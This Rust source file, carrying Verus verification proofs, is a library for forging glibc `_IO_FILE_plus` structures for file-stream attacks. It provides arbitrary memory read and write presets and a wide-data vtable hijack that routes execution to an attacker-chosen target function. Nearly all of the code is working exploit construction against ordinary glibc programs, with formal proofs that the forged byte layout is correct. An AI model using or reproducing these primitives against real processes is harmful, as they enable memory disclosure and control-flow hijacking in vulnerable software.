//! Forging glibc `_IO_FILE_plus` structures for file-stream attacks.
use vstd::prelude::*;
use crate::util::{p16, p32, p64, pack_u16_spec, pack_u32_spec, pack_u64_spec};

verus! {

/// Offset of `_flags2` in `_IO_FILE_plus`: the read and write presets stop
/// before it.
pub const FLAGS2_OFFSET: usize = 116;

/// Offset of `_unused2` in `_IO_FILE_plus`.
pub const UNUSED2_OFFSET: u64 = 0xc4;

/// Size of `_IO_FILE_plus`.
pub const FILE_PLUS_SIZE: usize = 224;

/// Offset of the vtable pointer in `struct _IO_wide_data`.
pub const WIDE_VTABLE_OFFSET: u64 = 0xe0;

/// Offset, in the forged structure, of the qword read as the wide vtable.
pub const WIDE_VTABLE_AT: u64 = 0x10;

/// Offset of `__doallocate` in the wide vtable.
pub const WIDE_DOALLOCATE_OFFSET: u64 = 0x68;

/// Offset, in the forged structure, of the qword read as the target function.
pub const TARGET_AT: u64 = 0x18;

/// Shift of the vtable that turns `__xsputn` into `__overflow`.
pub const CFH_WRITE_SHIFT: u64 = 0x20;

/// Shift of the vtable used by the read variant of the hijack.
pub const CFH_READ_SHIFT: u64 = 0x28;

/// `n` zero bytes.
pub open spec fn zeros(n: nat) -> Seq<u8> {
    Seq::new(n, |_i: int| 0u8)
}

/// An image of glibc's `_IO_FILE_plus`, field for field.
#[allow(non_snake_case)]
#[derive(Debug, Clone)]
pub struct FileStruct {
    pub _flags: i32,
    pub _IO_read_ptr: u64,
    pub _IO_read_end: u64,
    pub _IO_read_base: u64,
    pub _IO_write_base: u64,
    pub _IO_write_ptr: u64,
    pub _IO_write_end: u64,
    pub _IO_buf_base: u64,
    pub _IO_buf_end: u64,
    pub _IO_save_base: u64,
    pub _IO_backup_base: u64,
    pub _IO_save_end: u64,
    pub _markers: u64,
    pub _chain: u64,
    pub _fileno: i32,
    pub _flags2: i32,
    pub _old_offset: u64,
    pub _cur_column: u16,
    pub _vtable_offset: i8,
    pub _shortbuf: u8,
    pub _lock: u64,
    pub _offset: u64,
    pub _codecvt: u64,
    pub _wide_data: u64,
    pub _freeres_list: u64,
    pub _freeres_buf: u64,
    pub __pad5: u64,
    pub _mode: i32,
    pub _unused2: [u8; 20],
    pub vtable: u64,
}

impl Default for FileStruct {
    fn default() -> (r: FileStruct)
        ensures
            r.is_zeroed(),
    {
        let unused: [u8; 20] = [0u8; 20];
        assert(unused@ =~= zeros(20));
        FileStruct {
            _flags: 0,
            _IO_read_ptr: 0,
            _IO_read_end: 0,
            _IO_read_base: 0,
            _IO_write_base: 0,
            _IO_write_ptr: 0,
            _IO_write_end: 0,
            _IO_buf_base: 0,
            _IO_buf_end: 0,
            _IO_save_base: 0,
            _IO_backup_base: 0,
            _IO_save_end: 0,
            _markers: 0,
            _chain: 0,
            _fileno: 0,
            _flags2: 0,
            _old_offset: 0,
            _cur_column: 0,
            _vtable_offset: 0,
            _shortbuf: 0,
            _lock: 0,
            _offset: 0,
            _codecvt: 0,
            _wide_data: 0,
            _freeres_list: 0,
            _freeres_buf: 0,
            __pad5: 0,
            _mode: 0,
            _unused2: unused,
            vtable: 0,
        }
    }
}

impl FileStruct {
    /// Every field is zero.
    pub open spec fn is_zeroed(&self) -> bool {
        &&& self._flags == 0 && self._IO_read_ptr == 0 && self._IO_read_end == 0
        &&& self._IO_read_base == 0 && self._IO_write_base == 0 && self._IO_write_ptr == 0
        &&& self._IO_write_end == 0 && self._IO_buf_base == 0 && self._IO_buf_end == 0
        &&& self._IO_save_base == 0 && self._IO_backup_base == 0 && self._IO_save_end == 0
        &&& self._markers == 0 && self._chain == 0 && self._fileno == 0 && self._flags2 == 0
        &&& self._old_offset == 0 && self._cur_column == 0 && self._vtable_offset == 0
        &&& self._shortbuf == 0 && self._lock == 0 && self._offset == 0 && self._codecvt == 0
        &&& self._wide_data == 0 && self._freeres_list == 0 && self._freeres_buf == 0
        &&& self.__pad5 == 0 && self._mode == 0 && self._unused2@ == zeros(20) && self.vtable == 0
    }

    /// The bytes of the structure as the C layout places them, with zero
    /// padding.
    pub open spec fn layout(&self) -> Seq<u8> {
        pack_u32_spec(self._flags as u32) + zeros(4) + pack_u64_spec(self._IO_read_ptr)
            + pack_u64_spec(self._IO_read_end) + pack_u64_spec(self._IO_read_base) + pack_u64_spec(
            self._IO_write_base,
        ) + pack_u64_spec(self._IO_write_ptr) + pack_u64_spec(self._IO_write_end) + pack_u64_spec(
            self._IO_buf_base,
        ) + pack_u64_spec(self._IO_buf_end) + pack_u64_spec(self._IO_save_base) + pack_u64_spec(
            self._IO_backup_base,
        ) + pack_u64_spec(self._IO_save_end) + pack_u64_spec(self._markers) + pack_u64_spec(
            self._chain,
        ) + pack_u32_spec(self._fileno as u32) + pack_u32_spec(self._flags2 as u32)
            + pack_u64_spec(self._old_offset) + pack_u16_spec(self._cur_column) + seq![
            self._vtable_offset as u8,
            self._shortbuf,
        ] + zeros(4) + pack_u64_spec(self._lock) + pack_u64_spec(self._offset) + pack_u64_spec(
            self._codecvt,
        ) + pack_u64_spec(self._wide_data) + pack_u64_spec(self._freeres_list) + pack_u64_spec(
            self._freeres_buf,
        ) + pack_u64_spec(self.__pad5) + pack_u32_spec(self._mode as u32) + self._unused2@
            + pack_u64_spec(self.vtable)
    }

    /// The layout cut before `_flags2`.
    pub open spec fn header(&self) -> Seq<u8> {
        self.layout().subrange(0, FLAGS2_OFFSET as int)
    }

    /// Arbitrary read preset: the stream buffer becomes `[addr, addr + size)`
    /// on file descriptor 0. Returns the header up to `_flags2`.
    pub fn read(&mut self, addr: u64, size: u64) -> (r: Vec<u8>)
        requires
            addr + size <= u64::MAX,
        ensures
            *final(self) == (FileStruct {
                _flags: old(self)._flags & !4i32,
                _IO_read_base: 0,
                _IO_read_ptr: 0,
                _IO_buf_base: addr,
                _IO_buf_end: (addr + size) as u64,
                _fileno: 0,
                ..*old(self)
            }),
            r@ == final(self).header(),
    {
        self._flags = self._flags & !4;
        self._IO_read_base = 0;
        self._IO_read_ptr = 0;
        self._IO_buf_base = addr;
        self._IO_buf_end = addr + size;
        self._fileno = 0;
        let mut bytes = self.as_bytes();
        bytes.truncate(FLAGS2_OFFSET);
        bytes
    }

    /// Arbitrary write preset: the stream flushes `[addr, addr + size)` to
    /// file descriptor 1. Returns the header up to `_flags2`.
    pub fn write(&mut self, addr: u64, size: u64) -> (r: Vec<u8>)
        requires
            addr + size <= u64::MAX,
        ensures
            *final(self) == (FileStruct {
                _flags: (old(self)._flags & !8i32) | 0x800i32,
                _IO_write_base: addr,
                _IO_write_ptr: (addr + size) as u64,
                _IO_read_end: addr,
                _fileno: 1,
                ..*old(self)
            }),
            r@ == final(self).header(),
    {
        self._flags = self._flags & !8;
        self._flags = self._flags | 0x800;
        self._IO_write_base = addr;
        self._IO_write_ptr = addr + size;
        self._IO_read_end = addr;
        self._fileno = 1;
        let mut bytes = self.as_bytes();
        bytes.truncate(FLAGS2_OFFSET);
        bytes
    }

    /// The fields that both wide-data hijacks set, for a structure at
    /// `fp_start` and a vtable shift of `shift`.
    pub open spec fn cfh_spec(old_fs: FileStruct, fp_start: u64, wfile_jumps: u64, target: u64, shift: u64) -> FileStruct {
        FileStruct {
            _flags: 0,
            _lock: (fp_start + UNUSED2_OFFSET) as u64,
            _wide_data: (fp_start - WIDE_VTABLE_OFFSET + WIDE_VTABLE_AT) as u64,
            _IO_read_end: (fp_start - WIDE_DOALLOCATE_OFFSET + TARGET_AT) as u64,
            _IO_read_base: target,
            vtable: (wfile_jumps - shift) as u64,
            ..old_fs
        }
    }

    fn cfh(&mut self, fp_start: u64, wfile_jumps: u64, target: u64, shift: u64) -> (r: Vec<u8>)
        requires
            WIDE_VTABLE_OFFSET <= fp_start,
            fp_start + UNUSED2_OFFSET <= u64::MAX,
            shift <= wfile_jumps,
        ensures
            *final(self) == FileStruct::cfh_spec(*old(self), fp_start, wfile_jumps, target, shift),
            r@ == final(self).layout(),
    {
        self._flags = 0;
        // `_lock` must point at null bytes: those of `_unused2`.
        self._lock = fp_start + UNUSED2_OFFSET;
        self._wide_data = fp_start - WIDE_VTABLE_OFFSET + WIDE_VTABLE_AT;
        self._IO_read_end = fp_start - WIDE_DOALLOCATE_OFFSET + TARGET_AT;
        self._IO_read_base = target;
        self.vtable = wfile_jumps - shift;
        self.as_bytes()
    }

    /// Wide-data vtable hijack that calls `target` through the write path;
    /// the structure sits at `fp_start`. Returns the whole structure.
    pub fn cfh_write(&mut self, fp_start: u64, wfile_jumps: u64, target: u64) -> (r: Vec<u8>)
        requires
            WIDE_VTABLE_OFFSET <= fp_start,
            fp_start + UNUSED2_OFFSET <= u64::MAX,
            CFH_WRITE_SHIFT <= wfile_jumps,
        ensures
            *final(self) == FileStruct::cfh_spec(*old(self), fp_start, wfile_jumps, target, CFH_WRITE_SHIFT),
            r@ == final(self).layout(),
    {
        self.cfh(fp_start, wfile_jumps, target, CFH_WRITE_SHIFT)
    }

    /// Wide-data vtable hijack that calls `target` through the read path;
    /// the structure sits at `fp_start`. Returns the whole structure.
    pub fn cfh_read(&mut self, fp_start: u64, wfile_jumps: u64, target: u64) -> (r: Vec<u8>)
        requires
            WIDE_VTABLE_OFFSET <= fp_start,
            fp_start + UNUSED2_OFFSET <= u64::MAX,
            CFH_READ_SHIFT <= wfile_jumps,
        ensures
            *final(self) == FileStruct::cfh_spec(*old(self), fp_start, wfile_jumps, target, CFH_READ_SHIFT),
            r@ == final(self).layout(),
    {
        self.cfh(fp_start, wfile_jumps, target, CFH_READ_SHIFT)
    }

    /// The bytes of the structure in its C layout.
    pub fn as_bytes(&self) -> (r: Vec<u8>)
        ensures
            r@ == self.layout(),
            r@.len() == FILE_PLUS_SIZE,
    {
        let mut out = p32(self._flags as u32);
        let mut z = p32(0);
        out.append(&mut z);
        out.append(&mut p64(self._IO_read_ptr));
        out.append(&mut p64(self._IO_read_end));
        out.append(&mut p64(self._IO_read_base));
        out.append(&mut p64(self._IO_write_base));
        out.append(&mut p64(self._IO_write_ptr));
        out.append(&mut p64(self._IO_write_end));
        out.append(&mut p64(self._IO_buf_base));
        out.append(&mut p64(self._IO_buf_end));
        out.append(&mut p64(self._IO_save_base));
        out.append(&mut p64(self._IO_backup_base));
        out.append(&mut p64(self._IO_save_end));
        out.append(&mut p64(self._markers));
        out.append(&mut p64(self._chain));
        out.append(&mut p32(self._fileno as u32));
        out.append(&mut p32(self._flags2 as u32));
        out.append(&mut p64(self._old_offset));
        out.append(&mut p16(self._cur_column));
        out.push(self._vtable_offset as u8);
        out.push(self._shortbuf);
        out.append(&mut p32(0));
        out.append(&mut p64(self._lock));
        out.append(&mut p64(self._offset));
        out.append(&mut p64(self._codecvt));
        out.append(&mut p64(self._wide_data));
        out.append(&mut p64(self._freeres_list));
        out.append(&mut p64(self._freeres_buf));
        out.append(&mut p64(self.__pad5));
        out.append(&mut p32(self._mode as u32));
        out.extend_from_slice(self._unused2.as_slice());
        out.append(&mut p64(self.vtable));
        proof {
            assert(pack_u32_spec(0) =~= zeros(4)) by {
                assert((0u32 >> 8u32) as u8 == 0 && (0u32 >> 16u32) as u8 == 0 && (0u32 >> 24u32) as u8 == 0) by (bit_vector);
            }
        }
        assert(out@ =~= self.layout());
        out
    }
}

} // verus!
